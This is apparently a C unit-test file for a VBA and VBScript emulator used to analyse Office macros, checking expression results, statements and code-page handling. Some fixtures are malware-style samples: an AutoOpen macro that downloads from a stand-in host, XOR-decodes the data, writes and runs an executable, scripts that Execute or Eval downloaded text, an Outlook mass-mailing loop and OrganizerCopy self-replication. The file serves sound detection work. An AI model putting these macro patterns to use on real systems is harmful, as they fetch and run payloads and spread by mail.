/* The language: what expressions give (told by MsgBox), statements, and VBScript. Expected values follow MS-VBAL and the VBA
 * language reference. */
#include <stdio.h>
#include <string.h>

#include "unit/emulate/vba/ran.h"


/* An expression, and the text that MsgBox shows of it; "!11" is error 11. */
static const struct { const char *expression, *text; } expressions[] = {
    {"1 + 2 * 3", "7"}, {"2 ^ 3 ^ 2", "64"}, {"-2 ^ 2", "-4"}, {"7 \\ 2", "3"}, {"-7 \\ 2", "-3"}, {"-7 Mod 3", "-1"}, {"7 / 2", "3.5"},
    {"1 & 2 + 3", "15"}, {"\"a\" & \"b\" & 1", "ab1"}, {"\"1\" + \"2\"", "12"}, {"\"1\" + 2", "3"}, {"Not 5", "-6"}, {"5 And 3", "1"},
    {"5 Or 2", "7"}, {"5 Xor 1", "4"}, {"1 Eqv 1", "-1"}, {"1 Imp 0", "-2"}, {"1 = 1", "True"}, {"\"a\" < \"b\"", "True"},
    {"\"abc\" Like \"a?c\"", "True"}, {"\"a\" = \"A\"", "False"}, {"&HFF", "255"}, {"&HFFFF", "-1"}, {"&HFFFF&", "65535"}, {"&O17", "15"},
    {"1E3", "1000"}, {"0.1 + 0.2", "0.3"}, {"1 / 3", "0.333333333333333"}, {"100000 * 100000", "!6"}, {"300 * 300", "!6"}, {"300& * 300", "90000"},
    {"1 / 0", "!11"}, {"0 / 0", "!6"}, {"5 Mod 0", "!11"}, {"Null & \"s\"", "s"}, {"\"a\" * 2", "!13"}, {"True + 1", "0"},
    {"Chr(65) & Chr$(66)", "AB"}, {"ChrW(&H3042) = ChrW(12354)", "True"}, {"Asc(\"A\")", "65"}, {"AscW(\"A\")", "65"}, {"Asc(\"\")", "!5"},
    {"Len(\"abc\")", "3"}, {"LenB(\"abc\")", "6"}, {"Left(\"abcdef\", 2)", "ab"}, {"Right(\"abcdef\", 2)", "ef"}, {"Mid(\"abcdef\", 3)", "cdef"},
    {"Mid(\"abcdef\", 3, 2)", "cd"}, {"Mid(\"abc\", 0)", "!5"}, {"InStr(\"abcabc\", \"c\")", "3"}, {"InStr(4, \"abcabc\", \"c\")", "6"},
    {"InStr(1, \"ABC\", \"b\", vbTextCompare)", "2"}, {"InStr(1, \"ABC\", \"b\")", "0"}, {"InStrRev(\"abcabc\", \"b\")", "5"},
    {"Replace(\"aXbXc\", \"X\", \"-\")", "a-b-c"}, {"Replace(\"aXbX\", \"X\", \"\", 1, 1)", "abX"}, {"Join(Split(\"a,b,c\", \",\"), \"+\")", "a+b+c"},
    {"UBound(Split(\"\", \",\"))", "-1"}, {"Join(Filter(Array(\"ab\", \"cd\", \"ad\"), \"a\"))", "ab ad"}, {"StrReverse(\"abc\")", "cba"},
    {"UCase(\"aB\") & LCase(\"Ab\")", "ABab"}, {"\"[\" & Trim(\"  a \") & \"]\"", "[a]"}, {"\"[\" & LTrim(\"  a \") & \"]\"", "[a ]"},
    {"Space(3) & \"|\"", "   |"}, {"String(3, \"x\")", "xxx"}, {"String(2, 65)", "AA"}, {"StrConv(\"hello world\", vbProperCase)", "Hello World"},
    {"StrConv(StrConv(\"abc\", vbFromUnicode), vbUnicode)", "abc"}, {"StrComp(\"a\", \"B\", 1)", "-1"}, {"Hex(255)", "FF"}, {"Hex(-1)", "FFFF"},
    {"Hex(-1&)", "FFFFFFFF"}, {"Oct(8)", "10"}, {"Val(\"12abc\")", "12"}, {"Val(\"&H1F\")", "31"}, {"Val(\" 1 2.5x\")", "12.5"}, {"Str(5)", " 5"},
    {"CStr(1.5)", "1.5"}, {"CInt(2.5)", "2"}, {"CInt(3.5)", "4"}, {"CLng(\"&H10\")", "16"}, {"CByte(955)", "!6"}, {"CBool(\"True\")", "True"},
    {"CInt(\"x\")", "!13"}, {"Int(-1.5)", "-2"}, {"Fix(-1.5)", "-1"}, {"Round(2.5)", "2"}, {"Round(1.255, 2)", "1.25"}, {"Sgn(-3)", "-1"},
    {"Abs(-3.5)", "3.5"}, {"Sqr(9)", "3"}, {"Sqr(-1)", "!5"}, {"Log(0)", "!5"}, {"ChrB(960)", "!6"}, {"Exp(0)", "1"}, {"Cos(0)", "1"},
    {"Rnd(-1) < 1", "True"}, {"RGB(1, 2, 3)", "197121"}, {"QBColor(4)", "128"}, {"IsNumeric(\"1e5\")", "True"}, {"IsNumeric(\"x\")", "False"},
    {"IsArray(Array())", "True"}, {"IsEmpty(nothing_yet)", "True"}, {"IsNull(Null)", "True"}, {"IsDate(\"1/2/2020\")", "True"},
    {"TypeName(1)", "Integer"}, {"TypeName(100000)", "Long"}, {"TypeName(\"\")", "String"}, {"TypeName(Nothing)", "Nothing"},
    {"TypeName(Array(1))", "Variant()"}, {"VarType(1.5)", "5"}, {"IIf(1 > 2, \"a\", \"b\")", "b"}, {"Choose(2, \"a\", \"b\")", "b"},
    {"Switch(False, 1, True, 2)", "2"}, {"UBound(Array(1, 2, 3))", "2"}, {"Year(DateSerial(2020, 2, 29))", "2020"},
    {"Format(DateSerial(2020, 2, 30), \"yyyy-mm-dd\")", "2020-03-01"}, {"Format(DateAdd(\"m\", 1, #1/31/2021#), \"d.m.yyyy\")", "28.2.2021"},
    {"DateDiff(\"d\", #1/1/2020#, #1/1/2021#)", "366"}, {"DatePart(\"q\", #5/6/2020#)", "2"}, {"Weekday(#11/22/2026#)", "1"},
    {"MonthName(3)", "March"}, {"WeekdayName(2)", "Monday"}, {"Format(#1:05:09 PM#, \"hh:nn:ss\")", "13:05:09"},
    {"Format(1234.567, \"#,##0.00\")", "1,234.57"}, {"Format(5, \"000\")", "005"}, {"Format(0.25, \"0%\")", "25%"},
    {"Format(-3, \"0;(0)\")", "(3)"}, {"Format(1234.5, \"0.00E+00\")", "1.23E+03"}, {"Format(\"abc\", \">@@@@\")", " ABC"},
    {"Format(12.5, \"Currency\")", "$12.50"}, {"Format(1, \"Yes/No\")", "Yes"}, {"FormatNumber(1234.5)", "1,234.50"},
    {"Format(#Jan 5, 2020#, \"d.m.yyyy\") & Format(#5-Dec-2021 1:05 PM#, \" d.m.yyyy h\")", "5.1.2020 5.12.2021 13"},
    {"Chr(vbKeyP) & ChrW(wdKeyS)", "PS"}, {"xlUp", "-4162"}, {"vbCrLf = Chr(13) & Chr(10)", "True"}, {"msoTrue", "-1"}, {"adTypeBinary", "1"},
    {"fmPictureSizeModeZoom", "3"}, {"Len(vbNullString)", "0"}, {"Partition(7, 0, 20, 5)", " 5: 9"}, {"Partition(25, 0, 20, 5)", "21:  "}, {"Partition(-3, 0, 20, 5)", "  :-1"},
    {"Format(123, \"0-0-0\")", "1-2-3"}, {"Format(12345, \"(#) 0-00\")", "(12) 3-45"}, {"Format(-128, \"\"\"n\"\" 0\")", "-n 128"},
    {"Format(#1/2/2020#, \"ww\")", "1"}, {"DatePart(\"ww\", #1/1/2021#, 2, 2)", "53"}, {"DatePart(\"ww\", #12/31/2018#, 2, 2)", "1"},
};

static void test_expressions(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof expressions / sizeof *expressions; i++) {
        ran r;
        char source[400], want[200];
        snprintf(source, sizeof source,
                 "Sub AutoOpen()\r\nOn Error Resume Next\r\nx = %s\r\nIf Err.Number <> 0 Then x = \"!\" & Err.Number\r\nMsgBox x\r\nEnd Sub\r\n",
                 expressions[i].expression);
        snprintf(want, sizeof want, "message: %s\n", expressions[i].text);
        const char *got = ran_text(&r, source, false);
        if (strcmp(got, want) != 0) fail_msg("%s gave %s", expressions[i].expression, got);
        assert_int_equal(r.result.lines_broken, 0);
        ran_end(&r);
    }
}

typedef struct program {
    const char *name, *source, *lines;
} program;

static const program programs[] = {
    {"two numbers of files on one line", "Sub AutoOpen()\nOpen \"C:\\t\\x.txt\" For Output As #1: Print #1, \"ab\";: Close #1\nOpen \"C:\\t\\x.txt\" For Input As #2: Line Input #2, s: Close #2: MsgBox s\nEnd Sub\n",
     "write: C:\\t\\x.txt\nread: C:\\t\\x.txt\nmessage: ab\n"},
    {"an answer that is decrypted item by item", "Sub AutoOpen()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/\", False\nh.send\nDim b() As Byte\nb = h.responseBody\n"
     "For i = 0 To UBound(b)\nb(i) = b(i) Xor 7\nNext\nOpen \"C:\\t\\x.exe\" For Binary As #1: Put #1, , b: Close #1\nShell \"C:\\t\\x.exe\"\nEnd Sub\n",
     "download: http://a.example/\nread: http://a.example/\nwrite: C:\\t\\x.exe\nrun: C:\\t\\x.exe\ndownload: http://a.example/\nwrite: C:\\t\\x.exe\nrun: C:\\t\\x.exe\n"},
    {"for with a step", "Sub AutoOpen()\nFor i = 10 To 1 Step -3: s = s & i & \" \": Next\nMsgBox s & i\nEnd Sub\n", "message: 10 7 4 1 -2\n"},
    {"for that never runs", "Sub AutoOpen()\nFor i = 1 To 0\nMsgBox \"x\"\nNext i\nMsgBox i\nEnd Sub\n", "message: 1\n"},
    {"nested for, one Next", "Sub AutoOpen()\nFor i = 1 To 2\nFor j = 1 To 2\ns = s & i & j\nNext j, i\nMsgBox s\nEnd Sub\n", "message: 11122122\n"},
    {"for each over an array", "Sub AutoOpen()\nFor Each x In Array(\"a\", 2)\ns = s & x\nNext\nMsgBox s\nEnd Sub\n", "message: a2\n"},
    {"do loops", "Sub AutoOpen()\nDo While i < 3\ni = i + 1\nLoop\nDo\ni = i + 10\nLoop Until i > 30\nMsgBox i\nEnd Sub\n", "message: 33\n"},
    {"while and exit do", "Sub AutoOpen()\nWhile True\ni = i + 1\nIf i = 4 Then GoTo out\nWend\nout:\nDo\nExit Do\nLoop\nMsgBox i\nEnd Sub\n",
     "message: 4\n"},
    {"select case", "Sub AutoOpen()\nFor i = 1 To 5\nSelect Case i\nCase 1, 2: s = s & \"a\"\nCase 3 To 4: s = s & \"b\"\nCase Is > 4: s = s & \"c\"\n"
     "Case Else: s = s & \"d\"\nEnd Select\nNext\nMsgBox s\nEnd Sub\n", "message: aabbc\n"},
    {"else if", "Sub AutoOpen()\nIf 0 Then\nMsgBox 1\nElseIf 1 Then\nMsgBox 2\nElse\nMsgBox 3\nEnd If\nIf 0 Then MsgBox 4 Else If 1 Then MsgBox 5\nEnd Sub\n",
     "message: 2\nmessage: 5\n"},
    {"gosub", "Sub AutoOpen()\nGoSub a\nGoSub a\nMsgBox n\nExit Sub\na:\nn = n + 1\nReturn\nEnd Sub\n", "message: 2\n"},
    {"on goto", "Sub AutoOpen()\nOn 2 GoTo 10, 20\n10 MsgBox 1\n20 MsgBox 2\nEnd Sub\n", "message: 2\n"},
    {"byref and byval", "Sub f(a, ByVal b)\na = a + 1\nb = b + 1\nEnd Sub\nSub AutoOpen()\nx = 1: y = 1\nf x, y\nf (x), y\nMsgBox x & y\nEnd Sub\n",
     "message: 21\n"},
    {"byref array element", "Sub f(a)\na = 7\nEnd Sub\nSub AutoOpen()\nDim v(3)\nf v(2)\nMsgBox v(2)\nEnd Sub\n", "message: 7\n"},
    {"optional, named, paramarray",
     "Function f(a, Optional b = 5, Optional c As Long)\nf = a & b & c & IsMissing(c)\nEnd Function\n"
     "Function g(ParamArray p())\ng = UBound(p) & p(1)\nEnd Function\nSub AutoOpen()\nMsgBox f(1) & f(c:=2, a:=3) & g(8, 9)\nEnd Sub\n",
     "message: 150False352False19\n"},
    {"static and module variables", "Dim m\nSub f()\nStatic n\nn = n + 1: m = m + n\nEnd Sub\nSub AutoOpen()\nf: Call f: f\nMsgBox m\nEnd Sub\n", "message: 3\n"},
    {"typed variables coerce", "Sub AutoOpen()\nDim i As Integer, s As String, b As Boolean, f As String * 3\ni = \"12\": s = 5: b = 2: f = \"abcdef\"\n"
     "MsgBox i + 1 & s & b & f\nEnd Sub\n", "message: 135Trueabc\n"},
    {"integer overflow", "Sub AutoOpen()\nDim i As Integer\nOn Error Resume Next\ni = 32767\ni = i + 1\nMsgBox i & \" \" & Err.Number\nEnd Sub\n", "message: 32767 6\n"},
    {"enum and const", "Enum E\nA\nB = 5\nC\nEnd Enum\nConst K = \"x\" & C\nSub AutoOpen()\nConst L = K & \"y\"\nMsgBox A & B & L & E.C\nEnd Sub\n", "message: 05x6y6\n"},
    {"user type", "Type T\nn As Long\ns(2) As String\nEnd Type\nSub AutoOpen()\nDim a As T, b As T\na.n = 5: a.s(1) = \"q\"\nb = a: b.n = 6\n"
     "With b\n.s(1) = .s(1) & \"!\"\nEnd With\nMsgBox a.n & b.n & a.s(1) & b.s(1)\nEnd Sub\n", "message: 56qq!\n"},
    {"arrays", "Sub AutoOpen()\nDim a(1 To 3, 2) As Long\na(3, 2) = 4\nReDim b(2)\nb(2) = 1\nReDim Preserve b(5)\nc = b: c(2) = 9\n"
     "MsgBox a(3, 2) & LBound(a) & UBound(a, 2) & b(2) & UBound(b) & c(2)\nEnd Sub\n", "message: 412159\n"},
    {"sparse array", "Sub AutoOpen()\nReDim x(87025)\nx(87025) = \"a\": x(3) = \"b\"\nMsgBox x(3) & x(87025) & IsEmpty(x(5))\nEnd Sub\n", "message: baTrue\n"},
    {"mid statement", "Sub AutoOpen()\ns = \"abcdef\"\nMid(s, 2, 3) = \"XYZW\"\nMid$(s, 6) = \"!?\"\nMsgBox s\nEnd Sub\n", "message: aXYZe!\n"},
    {"lset and rset", "Sub AutoOpen()\ns = \"12345\"\nLSet s = \"ab\"\nt = \"12345\"\nRSet t = \"ab\"\nMsgBox s & \"|\" & t\nEnd Sub\n", "message: ab   |   ab\n"},
    {"on error goto and resume", "Sub AutoOpen()\nOn Error GoTo h\nx = 1 / 0\nMsgBox \"after\"\nExit Sub\nh:\nMsgBox Err.Number & Err.Description\nResume Next\nEnd Sub\n",
     "message: 11Division by zero\nmessage: after\n"},
    {"error reaches the caller's handler", "Sub f()\nErr.Raise 1234, , \"mine\"\nMsgBox \"no\"\nEnd Sub\nSub AutoOpen()\nOn Error Resume Next\nf\nMsgBox Err.Number & Err.Description\nEnd Sub\n",
     "message: 1234mine\n"},
    {"collection", "Sub AutoOpen()\nDim c As New Collection\nc.Add \"x\", \"k\"\nc.Add \"y\"\nc.Remove 1\nc.Add \"z\"\nFor Each i In c: s = s & i: Next\n"
     "MsgBox s & c.Count & c(2)\nEnd Sub\n", "message: yz2z\n"},
    {"dictionary", "Sub AutoOpen()\nSet d = CreateObject(\"Scripting.Dictionary\")\nd(\"a\") = 1\nd.Add \"b\", 2\nd(\"a\") = d(\"a\") + 5\nMsgBox d(\"a\") & d.Count & d.Exists(\"b\") & d!b\nEnd Sub\n",
     "message: 62True2\n"},
    {"class and properties",
     "Attribute VB_Name = \"K\"\nAttribute VB_GlobalNameSpace = False\nAttribute VB_PredeclaredId = False\nPrivate v\nProperty Get P()\nP = v & \"!\"\nEnd Property\n"
     "Property Let P(x)\nv = x\nEnd Property\nPrivate Sub Class_Initialize()\nv = \"new\"\nEnd Sub\nAttribute VB_Name = \"M\"\nSub AutoOpen()\nDim k As New K, j\n"
     "MsgBox k.P\nk.P = \"q\"\nSet j = New K\nMsgBox k.P & j.P\nEnd Sub\n", "message: new!\nmessage: q!new!\n"},
    {"compile conditions", "#Const X = 3\n#If X = 3 And VBA7 Then\nSub AutoOpen()\nMsgBox 1\n#Else\nSub Other()\nMsgBox 2\n#End If\nEnd Sub\n", "message: 1\n"},
    {"callbyname and run", "Sub f(a)\nMsgBox \"f\" & a\nEnd Sub\nSub AutoOpen()\nSet d = CreateObject(\"Scripting.Dictionary\")\nCallByName d, \"Add\", vbMethod, \"k\", 3\n"
     "MsgBox d(\"k\")\nApplication.Run \"f\", 5\nApplication.OnTime Now, \"g\"\nEnd Sub\nSub g()\nMsgBox \"late\"\nEnd Sub\n", "message: 3\nmessage: f5\nmessage: late\n"},
    {"an address that is given is called, once, where nothing must be given with it",
     "Sub g()\nMsgBox \"late\"\nEnd Sub\nSub h(x)\nMsgBox \"never\"\nEnd Sub\nSub AutoOpen()\na = VBA.Int(AddressOf g)\nb = VBA.Int(AddressOf g)\nc = VBA.Int(AddressOf h)\n"
     "MsgBox \"first\"\nEnd Sub\n", "message: first\nmessage: late\n"},
    {"the only macro, of whatever name", "Private Sub g()\nMsgBox 1\nEnd Sub\nSub whatever()\nMsgBox 2\nEnd Sub\n", "message: 2\n"},
    {"one of several macros", "Sub one()\nMsgBox 1\nEnd Sub\nSub whatever()\nMsgBox 2\nEnd Sub\n", ""},
    {"an address book has a reader",
     "Sub AutoOpen()\nSet o = CreateObject(\"Outlook.Application\")\nFor Each l In o.GetNamespace(\"MAPI\").AddressLists\nFor i = 1 To l.AddressEntries.Count\nSet m = o.CreateItem(0)\n"
     "m.Recipients.Add l.AddressEntries(i)\nm.Send\nNext\nNext\nEnd Sub\n", "probe: mail store\nconnect: recipients of a mail\n"},
    {"the organizer copies code, and styles",
     "Sub AutoOpen()\nApplication.OrganizerCopy \"a.doc\", \"b.dot\", \"Standard\", 0\nApplication.OrganizerCopy Source:=\"a.doc\", Destination:=\"c.dot\", Name:=\"M\", Object:=3\n"
     "End Sub\n", "replicate: c.dot\n"},
    {"rnd without seed", "Sub AutoOpen()\nMsgBox Int(Rnd * 1000) & \" \" & Int(Rnd * 1000)\nEnd Sub\n", "message: 705 533\n"},
    {"files", "Sub AutoOpen()\nn = FreeFile\nOpen \"C:\\Users\\a.txt\" For Output As #n\nPrint #n, \"one\"; 2\nPrint #n, \"two\";\nClose #n\nOpen \"C:\\Users\\a.txt\" For Input As #1\n"
     "Line Input #1, s\nMsgBox s & \"|\" & EOF(1) & Dir(\"C:\\Users\\a.txt\") & FileLen(\"C:\\Users\\a.txt\")\nClose\nKill \"C:\\Users\\a.txt\"\nEnd Sub\n",
     "write: C:\\Users\\a.txt\nread: C:\\Users\\a.txt\nmessage: one 2 |Falsea.txt11\ndelete: C:\\Users\\a.txt\n"},
    {"bytes one by one, in local, static and module arrays",
     "Dim m(3) As Byte\nFunction f(x)\nStatic z(0 To 3) As Byte\nz(x) = x * 2\nf = z(1) & z(2)\nEnd Function\nSub AutoOpen()\nDim b(2) As Byte\nb(1) = 7\nm(3) = b(1) + 1\n"
     "MsgBox b(0) & b(1) & m(3) & f(1) & f(2)\nEnd Sub\n",
     "message: 0782024\n"},
    {"bytes and text", "Sub AutoOpen()\nDim b() As Byte\nb = \"ab\"\nMsgBox UBound(b) & b(2)\ns = b\nMsgBox CStr(s) & StrConv(b, vbUnicode) <> \"\"\nEnd Sub\n",
     "message: 398\nmessage: True\n"},
    {"a case is compared as the operator compares", "Sub AutoOpen()\nDim i As Integer, v\ni = 5: v = 5\nSelect Case 5\nCase \"5\": MsgBox 1\nEnd Select\n"
     "Select Case i\nCase \"4\" To \"6\": MsgBox 2\nEnd Select\nSelect Case v\nCase \"5\": MsgBox 3\nCase Else: MsgBox 4\nEnd Select\nEnd Sub\n",
     "message: 1\nmessage: 2\nmessage: 4\n"},
    {"end stops", "Sub f()\nEnd\nEnd Sub\nSub AutoOpen()\nMsgBox 1\nf\nMsgBox 2\nEnd Sub\n", "message: 1\n"},
};

static void check(const program *p, bool vbscript)
{
    ran r;
    const char *got = ran_text(&r, p->source, vbscript);
    if (strcmp(got, p->lines) != 0) fail_msg("%s: %s", p->name, got);
    if (r.result.lines_broken || r.result.procs_lost) fail_msg("%s: broken", p->name);
    ran_end(&r);
}

static void test_programs(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof programs / sizeof *programs; i++) {
        check(&programs[i], false);
    }
}

static const program scripts[] = {
    {"code outside of procedures", "x = 2\nSub f(a)\nMsgBox a & x\nEnd Sub\nf 1\nCall f(3)\n", "message: 12\nmessage: 32\n"},
    {"class", "Class C\nPublic v\nPrivate Sub Class_Initialize\nv = 4\nEnd Sub\nPublic Default Function g(n)\ng = v + n\nEnd Function\nEnd Class\nSet o = New C\nMsgBox o.v & o(3)\n",
     "message: 47\n"},
    {"execute", "Execute \"Sub h(x) : MsgBox x : End Sub\"\nh 5\nExecuteGlobal \"y = 3\"\nMsgBox y & Eval(\"y * 2\")\n", "message: 5\nmessage: 36\n"},
    {"ampersand without blanks", "a = \"x\"\nMsgBox a&\"y\"&a\n", "message: xyx\n"},
    {"wscript", "Set s = WScript.CreateObject(\"WScript.Shell\")\ns.Run \"tool.invalid /x\", 0\nWScript.Echo \"e\"\nWScript.Quit\nMsgBox 1\n",
     "run: tool.invalid /x\nmessage: e\n"},
    {"getref", "Function q(a)\nq = a * 2\nEnd Function\nSet r = GetRef(\"q\")\nMsgBox r(4) & TypeName(r)\n", "message: 8Procedure\n"},
    {"procedures as values", "Dim n\nSub g\nn = n + 1\nMsgBox n\nEnd Sub\nSet f = GetRef(\"g\")\nf\nf()\nCall f\nCall f()\nGetRef(\"g\")()\nDim a(1)\nSet a(0) = f\na(0)()\nx = f()\nGetRef \"g\"\nGetRef(\"none\")()\n",
     "message: 1\nmessage: 2\nmessage: 3\nmessage: 4\nmessage: 5\nmessage: 6\nmessage: 7\n"},
    {"property that is only written", "Dim x\nProperty Let p(v)\nx = v\nEnd Property\nOn Error Resume Next\ny = p\nMsgBox Err.Number\nErr.Clear\nz = Left(p, 1)\nc = p(3)\nMsgBox Err.Number & \"b\"\np = 4\nMsgBox x\n",
     "message: 394\nmessage: 394b\nmessage: 4\n"},
    {"replace asks a procedure", "Function d(m, g, at, s)\nd = Chr(CLng(\"&H\" & g) Xor 1) & at\nEnd Function\nSet r = New RegExp\nr.Global = True\nr.Pattern = \"([0-9a-f]{2})\"\nMsgBox r.Replace(\"60.63\", GetRef(\"d\"))\n",
     "message: a0.b3\n"},
    {"execute what came", "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.open \"GET\", \"http://a.example/\", False\nh.send\nIf h.Status = 200 Then Execute h.responseText\n",
     "download: http://a.example/\ndownload: http://a.example/\nread: http://a.example/\nrun: {text of http://a.example/}\n"},
    {"eval what came", "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.open \"GET\", \"http://a.example/\", False\nh.send\nIf h.Status = 200 Then x = Eval(h.responseText)\nMsgBox 1\n",
     "download: http://a.example/\nmessage: 1\ndownload: http://a.example/\nread: http://a.example/\nrun: {text of http://a.example/}\n"},
};

static void test_scripts(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof scripts / sizeof *scripts; i++) {
        check(&scripts[i], true);
    }
}

/* Numbers from Windows' tables of the pages. */
static const struct { const char *locale, *name, *source, *lines; bool vbscript; } abroad[] = {
    {"ja-JP", "Asc of two bytes is a negative Integer", "MsgBox Asc(\"あ\") & Asc(\"ｱ\")", "message: -32096177\n", true},
    {"ja-JP", "Chr of both forms", "MsgBox Chr(&H82A0) & Chr(-32096) & Chr(177)", "message: ああｱ\n", true},
    {"ja-JP", "bytes come back", "For i = 0 To 255\nIf Asc(Chr(i)) <> i Then b = b & i\nNext\nMsgBox \"[\" & b & \"]\"", "message: []\n", true},
    {"en-US", "bytes come back", "For i = 0 To 255\nIf Asc(Chr(i)) <> i Then b = b & i\nNext\nMsgBox \"[\" & b & \"]\"", "message: []\n", true},
    {"en-US", "no two bytes", "On Error Resume Next\nx = Chr(&H82A0)\nMsgBox Err.Number & Asc(\"あ\") & Asc(\"€\")", "message: 563128\n", true},
    {"ko-KR", "Korean", "MsgBox Asc(\"가\") & Chr(&HB0A1)", "message: -20319가\n", true},
    {"zh-CN", "Chinese", "MsgBox Asc(\"啊\") & Chr(&HB0A1)", "message: -20319啊\n", true},
    {"ru-RU", "Russian", "MsgBox Asc(\"я\") & Chr(192)", "message: 255А\n", true},
    {"ja-JP", "StrConv to bytes and back", "Sub AutoOpen()\nDim b() As Byte\nb = StrConv(\"aあｱ\", vbFromUnicode)\nMsgBox UBound(b) & \" \" & b(1) & \" \" & b(2) & \" \" & b(3) & "
     "\" \" & LenB(StrConv(\"aあｱ\", vbFromUnicode)) & StrConv(b, vbUnicode)\nEnd Sub\n", "message: 3 130 160 177 4aあｱ\n", false},
    {"ja-JP", "StrConv wide and narrow", "Sub AutoOpen()\nMsgBox StrConv(\"Aｶﾞﾊﾟ1\", vbWide) & StrConv(\"Ａガパー\", vbNarrow) & StrConv(\"あ\", vbKatakana) & StrConv(\"ア\", vbHiragana)\nEnd Sub\n",
     "message: Ａガパ１Aｶﾞﾊﾟｰアあ\n", false},
    {"en-US", "StrConv by the LCID", "Sub AutoOpen()\nMsgBox UBound(StrConv(\"あ\", vbFromUnicode, 1041)) & UBound(StrConv(\"あ\", vbFromUnicode))\nEnd Sub\n", "message: 10\n", false},
    {"ja-JP", "a file of the system's page", "Sub AutoOpen()\nOpen \"C:\\x.txt\" For Output As #1\nPrint #1, \"あ\";\nClose\nMsgBox FileLen(\"C:\\x.txt\")\n"
     "Open \"C:\\x.txt\" For Input As #1\nLine Input #1, s\nMsgBox s\nEnd Sub\n", "write: C:\\x.txt\nmessage: 2\nread: C:\\x.txt\nmessage: あ\n", false},
};

static void test_code_pages(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof abroad / sizeof *abroad; i++) {
        ran r;
        const char *got = ran_text_in(&r, abroad[i].locale, abroad[i].source, abroad[i].vbscript);
        if (strcmp(got, abroad[i].lines) != 0) fail_msg("%s, %s: %s", abroad[i].locale, abroad[i].name, got);
        ran_end(&r);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_expressions), cmocka_unit_test(test_programs), cmocka_unit_test(test_scripts), cmocka_unit_test(test_code_pages)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
